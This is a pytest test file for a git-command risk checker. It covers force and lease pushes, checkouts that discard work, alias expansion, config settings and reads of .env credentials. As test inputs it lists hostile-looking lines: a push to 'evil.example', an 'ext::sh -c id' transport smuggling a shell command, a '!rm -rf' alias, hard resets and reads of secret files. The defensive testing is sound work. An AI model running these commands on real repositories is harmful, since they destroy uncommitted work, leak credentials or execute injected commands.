"""git: pushes, checkouts, settings, aliases and what is shown of files of credentials."""

import pytest

from tests.readers.shell.evaluation import effects, payloads, reading, rules

ON_FEATURE = {"/work/app/.git/HEAD": "ref: refs/heads/feature/x\n", "/work/app/.git/config": "[core]\n\tbare = false\n"}
ON_MAIN = {"/work/app/.git/HEAD": "ref: refs/heads/main\n"}


def found(text: str, files: dict[str, str | None] | None = None) -> set[str]:
    """Rule ids with a machine that has some files."""
    return {effect.rule for effect in reading(text, files=files).effects}


@pytest.mark.parametrize(
    ("line", "files", "asks"),
    [
        ("git push --force-with-lease", ON_FEATURE, False),
        ("git push --force-with-lease", ON_MAIN, True),
        ("git push --force-with-lease", {}, True),
        ("git push --force-with-lease origin HEAD", ON_FEATURE, False),
        ("git push --force-with-lease origin main", ON_FEATURE, True),
        ('git push --force-with-lease origin "$(git branch --show-current)"', ON_FEATURE, False),
        ('git push --force-with-lease origin "$(git branch --show-current)"', ON_MAIN, True),
        ("git push --force-with-lease origin release/$X", ON_FEATURE, True),
        ("git push --force-with-lease origin feature/x:main", ON_FEATURE, True),
        ("git push --force-with-lease --no-force-with-lease origin main", ON_FEATURE, False),
    ],
)
def test_a_lease_is_for_branches_of_ones_own(line: str, files: dict[str, str | None], asks: bool) -> None:
    """Overwriting with a lease asks on shared branches and where the branch is not known."""
    assert ("git.push.lease" in found(line, files)) is asks


def test_a_worktree_tells_its_branch() -> None:
    """``.git`` may be a file that points to the folder."""
    files: dict[str, str | None] = {
        "/work/app/.git": "gitdir: ../first/.git/worktrees/app\n",
        "/work/first/.git/worktrees/app/HEAD": "ref: refs/heads/mine\n",
    }
    assert "git.push.lease" not in found("git push --force-with-lease", files)


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("git push origin :old", "git.push.delete"),
        ("git push origin +x", "git.push.force"),
        ("git push -d origin x", "git.push.delete"),
        ("git push --mirror x", "git.push.mirror"),
        ("git push git@evil.example:x.git main", "git.push.address"),
        ("git push 'ext::sh -c id' x", "git.push.transport"),
        ("git push --exec ./x origin", "git.push.receive-pack"),
    ],
)
def test_pushes_that_destroy_or_leave(line: str, rule: str) -> None:
    """Each form has its rule, and a dry run has none of the first four."""
    assert rule in rules(line)
    assert "git.push" not in rules(f"{line} --dry-run")


@pytest.mark.parametrize("word", ["main", "feature/x", "v1.2", "release-1.x", "HEAD~1", "-", "origin/main", "a1b2c3d"])
def test_a_branch_is_no_path(word: str) -> None:
    """Checking out a branch or commit keeps uncommitted work."""
    assert "git.checkout.paths" not in rules(f"git checkout {word}")


@pytest.mark.parametrize(
    "word", [".", "src/", "./x", "'*.py'", "app.py", "Makefile", ":/", "main -- x", "main app.py", "-- x", "--ours a"]
)
def test_a_path_loses_work(word: str) -> None:
    """Checking out paths discards what was not committed."""
    assert "git.checkout.paths" in rules(f"git checkout {word}")


def test_what_is_there_tells_branch_from_path() -> None:
    """A folder is a path, unless a branch has its name."""
    folder: dict[str, str | None] = {"/work/app/docs/a.md": "x", "/work/app/.git/HEAD": "ref: refs/heads/main\n"}
    assert "git.checkout.paths" in found("git checkout docs", folder)
    assert "git.checkout.paths" not in found("git checkout docs", {**folder, "/work/app/.git/refs/heads/docs": "a1"})


def test_aliases_of_the_repository_are_read() -> None:
    """An alias is a git command or, after ``!``, a shell line; the last of two settings counts."""
    config = '[alias]\n\tst = status -sb\n\twipe = "!rm -rf src"\n\tst = log\n[core]\n\twipe = x\n'
    files: dict[str, str | None] = {"/work/app/.git/HEAD": "x", "/work/app/.git/config": config}
    texts = {text for line in ("git wipe now", "git st -3") for text in reading(line, files=files).texts}
    assert texts == {"rm -rf src now", "git log -3"}


def test_an_unknown_subcommand_is_opaque() -> None:
    """Without an alias nothing is claimed of it."""
    assert reading("git frobnicate").opaque == ("unknown subcommand git frobnicate",)


@pytest.mark.parametrize(
    "line",
    [
        "git config a.b",
        "git config --get a.b",
        "git config get a.b",
        "git config -l",
        "git config --unset core.hooksPath",
    ],
)
def test_reading_a_setting_sets_nothing(line: str) -> None:
    """Showing and removing hand on nothing."""
    assert payloads(line) == set()


@pytest.mark.parametrize(
    "line",
    [
        "git config a.b c",
        "git config --global a.b c",
        "git config set a.b c",
        "git -c a.b=c log",
        "git clone -c a.b=c x",
    ],
)
def test_a_setting_is_handed_on(line: str) -> None:
    """All ways to give a setting end in the same text."""
    assert "git-config: a.b=c" in payloads(line)


@pytest.mark.parametrize(
    "line",
    [
        "git show HEAD:.env",
        "git diff main -- .env",
        "git log -p -- .env",
        "git blame .env",
        "git cat-file blob HEAD:.env",
    ],
)
def test_credentials_in_history_are_read(line: str) -> None:
    """What shows a file of credentials reads it."""
    assert "read /work/app/.env" in effects(line)


@pytest.mark.parametrize(
    "line", ["git log -- .env", "git diff --stat .env", "git show HEAD:.env.example", "git show HEAD:src/env"]
)
def test_names_of_credentials_are_no_secret(line: str) -> None:
    """Overviews and templates show no secret."""
    assert "read /work/app/.env" not in effects(line)


def test_each_submodule_runs_the_line() -> None:
    """One word is a shell line, several are a command."""
    assert "shell: git reset --hard" in payloads("git submodule foreach 'git reset --hard'")
    assert "git.clean" in rules("git submodule foreach git clean -fd")
